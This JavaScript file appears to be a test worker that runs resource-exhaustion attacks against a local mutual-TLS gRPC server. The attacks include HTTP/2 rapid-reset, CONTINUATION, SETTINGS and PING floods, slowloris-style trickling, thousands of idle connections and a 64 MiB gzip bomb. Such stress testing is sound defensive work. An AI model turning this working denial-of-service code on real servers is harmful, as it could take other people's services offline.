// Attacks on a server with mutual TLS, as a worker. The attacker has the certificate of a process of the trust domain, if the attack
// needs one, and an address of its own.
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import http2 from 'node:http2';
import { connect } from 'node:net';
import path from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import { gzipSync } from 'node:zlib';
import { answerParent } from '@rondo/harness';
import { attackCommands } from '../attacks/beside.mjs';

const MIB = 1024 * 1024;
/** The attacker's own address, so that it takes up its limits alone. Linux has it on the loopback. */
const FROM = '127.0.0.2';
const PATIENCE_MS = 2_000;
/** How long a client that trickles waits between two bytes. */
const TRICKLE_MS = 200;
const SERVICE = '/rondo.conformance.v1.ConformanceService';

const times = (count, item) => Array.from({ length: count }, (_, index) => item(index));

const [DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION] = [0, 1, 3, 4, 6, 9];
const [END_STREAM, END_HEADERS] = [1, 4];

/** Source: https://www.rfc-editor.org/rfc/rfc9113#section-4.1 */
function frame(type, { flags = 0, stream = 0, payload = Buffer.alloc(0) } = {}) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Each a literal without indexing, of less than 127 bytes. Source: https://www.rfc-editor.org/rfc/rfc7541#section-6.2.2 */
const field = (name, value) =>
  Buffer.concat([Buffer.from([0, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]);

const requestTo = (method) =>
  Buffer.concat([
    field(':method', 'POST'),
    field(':scheme', 'https'),
    field(':path', `${SERVICE}/${method}`),
    field(':authority', 'localhost'),
    field('content-type', 'application/grpc'),
    field('te', 'trailers'),
  ]);

const begin = (method, { stream = 1, flags = END_HEADERS } = {}) =>
  frame(HEADERS, { flags, stream, payload: requestTo(method) });
const START = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(SETTINGS)]);
const LAST = frame(PING, { payload: Buffer.from('all read') });
const CANCEL = Buffer.from([0, 0, 0, 8]);
const streamOf = (index) => index * 2 + 1;

const read = (folder, name) => readFileSync(path.join(folder, name));
const certificateIn = (folder) => ({ cert: read(folder, 'tls.crt'), key: read(folder, 'tls.key') });

const closed = (socket) =>
  socket.closed ? Promise.resolve() : new Promise((resolve) => socket.once('close', resolve));

/** A connection below TLS; undefined if the server refuses it. */
async function openPlain({ port }) {
  const socket = connect({ port, host: '127.0.0.1', localAddress: FROM });
  socket.on('error', () => socket.destroy()).resume();
  await Promise.race([once(socket, 'connect').catch(() => undefined), closed(socket)]);
  return socket;
}

/** A connection with TLS, by the certificate in `as`; with none, the server ends it. */
async function open(target, as = target.insider) {
  const certificate = as === undefined ? {} : certificateIn(as);
  const socket = connectTls({
    port: target.port,
    host: '127.0.0.1',
    localAddress: FROM,
    servername: 'localhost',
    ca: read(target.insider, 'ca.crt'),
    ALPNProtocols: ['h2'],
    ...certificate,
  });
  socket.on('error', () => socket.destroy());
  await Promise.race([new Promise((resolve) => socket.once('secureConnect', resolve)), closed(socket)]);
  return socket;
}

/** Sends frames, and waits until the server has read them all, or has ended the connection. */
async function send(target, frames) {
  const socket = await open(target);
  const answered = new Promise((resolve) => {
    socket.on('data', (bytes) => bytes.includes('all read') && resolve());
  });
  socket.write(Buffer.concat([START, ...frames, LAST]));
  await Promise.race([answered, closed(socket), sleep(PATIENCE_MS)]);
  socket.destroy();
}

/** Handshakes, one after the other, that the server refuses. */
async function refused(target, as) {
  for (let count = 0; count < 20; count += 1) {
    const socket = await open(target, as);
    socket.resume();
    await Promise.race([closed(socket), sleep(PATIENCE_MS)]);
    socket.destroy();
  }
}

/** Holds connections for a while; each sends a byte of `trickle` now and then. */
async function hold(sockets, trickle) {
  for (let count = 0; count < PATIENCE_MS / TRICKLE_MS; count += 1) {
    await sleep(TRICKLE_MS);
    if (trickle !== undefined) for (const socket of sockets) if (socket.writable) socket.write(trickle);
  }
  for (const socket of sockets) socket.destroy();
}

async function slowly(target, first, trickle) {
  const sockets = await Promise.all(times(100, () => open(target)));
  for (const socket of sockets) socket.resume().write(Buffer.concat([START, first]));
  await hold(sockets, trickle);
}

/** Calls by a client of HTTP/2, and waits for their ends. */
async function call(target, { count, headers = {}, body = Buffer.alloc(5) }) {
  const session = http2.connect(`https://127.0.0.1:${target.port}`, {
    localAddress: FROM,
    servername: 'localhost',
    ca: read(target.insider, 'ca.crt'),
    ...certificateIn(target.insider),
  });
  session.on('error', () => session.destroy());
  await Promise.race([once(session, 'remoteSettings').catch(() => undefined), closed(session)]);
  const ends = times(session.destroyed ? 0 : count, () => {
    const stream = session.request({
      ':method': 'POST',
      ':path': `${SERVICE}/Unary`,
      'content-type': 'application/grpc',
      te: 'trailers',
      ...headers,
    });
    stream.on('error', () => undefined).resume();
    stream.end(body);
    return closed(stream);
  });
  await Promise.race([Promise.all(ends), sleep(PATIENCE_MS)]);
  session.destroy();
}

function message(payload, flag = 0) {
  const head = Buffer.alloc(5);
  head.writeUInt8(flag);
  head.writeUInt32BE(payload.length, 1);
  return Buffer.concat([head, payload]);
}

const bomb = message(gzipSync(Buffer.alloc(64 * MIB)), 1);
const large = message(Buffer.alloc(5 * MIB));
/** A record of TLS that says it has 256 bytes, and its first ones. */
const HALF_HELLO = Buffer.from([0x16, 3, 1, 1, 0, 1, 0, 0, 252, 3, 3]);

/** By name: one round of the attack. */
const ATTACKS = {
  'nothing at all': () => sleep(100),
  'handshakes without a certificate': (target) => refused(target, undefined),
  "handshakes with a stranger's certificate": (target) => refused(target, target.stranger),
  'handshakes that trickle': async (target) => {
    const sockets = await Promise.all(times(400, () => openPlain(target)));
    for (const socket of sockets) if (socket.writable) socket.write(HALF_HELLO);
    await hold(sockets, Buffer.from([0]));
  },
  '3,000 idle connections': async (target) => hold(await Promise.all(times(3_000, () => openPlain(target)))),
  'plaintext to the port with TLS': async (target) => {
    const sockets = await Promise.all(times(20, () => openPlain(target)));
    for (const socket of sockets) if (socket.writable) socket.write(START);
    await Promise.race([Promise.all(sockets.map(closed)), sleep(PATIENCE_MS)]);
  },
  'calls that are reset at once': (target) =>
    send(
      target,
      times(2_000, (index) => {
        const stream = streamOf(index);
        return Buffer.concat([begin('Unary', { stream }), frame(RST_STREAM, { stream, payload: CANCEL })]);
      }),
    ),
  CONTINUATIONs: (target) =>
    send(target, [begin('Unary', { flags: 0 }), ...times(10_000, () => frame(CONTINUATION, { stream: 1 }))]),
  SETTINGS: (target) =>
    send(
      target,
      times(5_000, () => frame(SETTINGS)),
    ),
  PINGs: (target) =>
    send(
      target,
      times(10_000, () => frame(PING, { payload: Buffer.alloc(8) })),
    ),
  'headers that trickle': (target) =>
    slowly(target, begin('Unary', { flags: 0 }), frame(CONTINUATION, { stream: 1, payload: Buffer.from([0x82]) })),
  'messages that trickle': (target) =>
    slowly(
      target,
      Buffer.concat([begin('Unary'), frame(DATA, { stream: 1, payload: Buffer.from([0, 0, 0, 4, 0]) })]),
      frame(DATA, { stream: 1, payload: Buffer.from([0]) }),
    ),
  'metadata of 60 KB': (target) => call(target, { count: 50, headers: { x: 'x'.repeat(60_000) } }),
  'gzip of 64 MiB': (target) => call(target, { count: 4, headers: { 'grpc-encoding': 'gzip' }, body: bomb }),
  'messages of 5 MiB': (target) => call(target, { count: 4, body: large }),
  'replies that stay unread': async (target) => {
    const socket = await open(target);
    const streams = times(50, (index) => {
      const stream = streamOf(index);
      const request = frame(DATA, { flags: END_STREAM, stream, payload: Buffer.alloc(5) });
      return Buffer.concat([begin('ServerStream', { stream }), request]);
    });
    socket.pause().write(Buffer.concat([START, ...streams]));
    await hold([socket]);
  },
};

answerParent(attackCommands(ATTACKS));
